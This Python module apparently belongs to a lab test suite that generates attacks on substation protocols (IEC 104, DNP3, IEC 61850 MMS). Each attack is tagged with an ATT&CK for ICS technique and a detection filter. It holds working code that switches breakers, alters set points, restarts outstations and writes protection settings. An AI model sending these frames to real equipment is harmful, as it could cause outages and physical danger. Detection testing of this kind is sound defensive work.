"""Attacks on substations: IEC 60870-5-104, DNP3 (IEEE 1815) and IEC 61850 MMS."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.lab.attacks import wire
from tests.lab.attacks.attack import Aim, Attack

_FROM = " && ip.src == {source} && ip.dst == {target}"
_START = b"\x68\4\7\0\0\0"


def _asdu(aim: Aim, number: int, type_: int, cause: int, point: int, value: bytes) -> bytes:
    head = struct.pack("<BBBBH", type_, 1, cause, 0, aim.number("station"))
    body = struct.pack("<HH", number << 1, 0) + head + point.to_bytes(3, "little") + value
    return bytes([0x68, len(body)]) + body


def _iec104(type_: int, value: bytes, offset: int | None = None) -> Callable[[Aim], None]:
    """Starts data transfer and activates one thing."""

    def act(aim: Aim) -> None:
        point = 0 if offset is None else aim.number("start") + offset
        wire.tcp(aim, _START, _asdu(aim, 0, type_, 6, point, value))

    return act


def _crc(octets: bytes) -> bytes:
    """IEEE 1815, 9.2.4.3: the remainder of the polynomial 0x3D65, reflected and complemented."""
    remainder = 0
    for octet in octets:
        remainder ^= octet
        for _ in range(8):
            remainder = (remainder >> 1) ^ (0xA6BC if remainder & 1 else 0)
    return (~remainder & 0xFFFF).to_bytes(2, "little")


def _link(to: int, sender: int, application: bytes) -> bytes:
    user = b"\xc0" + application
    head = struct.pack("<HBBHH", 0x6405, 5 + len(user), 0xC4, to, sender)
    blocks = (user[at : at + 16] for at in range(0, len(user), 16))
    return head + _crc(head) + b"".join(block + _crc(block) for block in blocks)


def _dnp3(*applications: str, broken: bool = False) -> Callable[[Aim], None]:
    def act(aim: Aim) -> None:
        ends = aim.number("outstation"), aim.number("master")
        messages = [_link(*ends, bytes.fromhex(text)) for text in applications]
        if broken:
            messages = [message[:-2] + b"\xff\xff" for message in messages]
        wire.tcp(aim, *messages, answers=False)

    return act


def _mms_write(aim: Aim) -> None:
    from open61850.data import BoolData
    from open61850.mms import MmsClient

    with MmsClient.connect(aim.address, aim.service.port) as client:
        device = f"IED{aim.service.settings['device']}"
        client.write(f"{device}/GGIO1$SP$Remote$setVal", BoolData(True))


def _mms_names(aim: Aim) -> None:
    from open61850.mms import MmsClient

    with MmsClient.connect(aim.address, aim.service.port) as client:
        for domain in client.get_name_list(9):
            client.get_name_list(2, str(domain))


_CROB = "c1050c0128010003004101" + "64000000" + "64000000" + "00"
ATTACKS = (
    Attack(
        "104 set point changed",
        "Activates a set point far outside its range",
        "iec104",
        ("T0836",),
        "value",
        "iec60870_asdu.typeid == 50 && frame contains 00:00:7a:44" + _FROM,
        _iec104(50, struct.pack("<fB", 1000.0, 0), 102),
    ),
    Attack(
        "104 breaker switched",
        "A double command",
        "iec104",
        ("T0855",),
        "operation",
        "iec60870_asdu.typeid == 46" + _FROM,
        _iec104(46, b"\2", 101),
    ),
    Attack(
        "104 process reset",
        "Resets the station's process",
        "iec104",
        ("T0816",),
        "engineering operation",
        "iec60870_asdu.typeid == 105" + _FROM,
        _iec104(105, b"\1"),
    ),
    Attack(
        "104 counters read",
        "Interrogates counters, which nobody does",
        "iec104",
        ("T0801",),
        "new operation",
        "iec60870_asdu.typeid == 101" + _FROM,
        _iec104(101, b"\5"),
    ),
    Attack(
        "dnp3 breaker operated",
        "Operates directly, without select",
        "dnp3",
        ("T0855",),
        "operation",
        "dnp3.al.func == 5" + _FROM,
        _dnp3(_CROB),
    ),
    Attack(
        "dnp3 cold restart",
        "Restarts the outstation",
        "dnp3",
        ("T0816",),
        "engineering operation",
        "dnp3.al.func == 13" + _FROM,
        _dnp3("c20d"),
    ),
    Attack(
        "dnp3 reports disabled",
        "Disables unsolicited responses",
        "dnp3",
        ("T0804", "T0878"),
        "new operation",
        "dnp3.al.func == 21 && ip.src == {source} && ip.dst == {target}",
        _dnp3("c0153c02063c03063c0406"),
    ),
    Attack(
        "dnp3 malformed",
        "A frame whose checksum is wrong",
        "dnp3",
        ("T0814",),
        "protocol violation",
        "tcp.dstport == 20000 && tcp.payload contains 3c:02:06:ff:ff" + _FROM,
        _dnp3("c3013c0206", broken=True),
        crafted=True,
    ),
    Attack(
        "mms setting written",
        "Writes a setting of a protection device",
        "mms",
        ("T0836",),
        "new operation",
        'mms.confirmedServiceRequest == 5 && frame contains "Remote"' + _FROM,
        _mms_write,
    ),
    Attack(
        "mms names listed",
        "Lists what a protection device has",
        "mms",
        ("T0861",),
        "new operation",
        "mms.confirmedServiceRequest == 1" + _FROM,
        _mms_names,
    ),
)
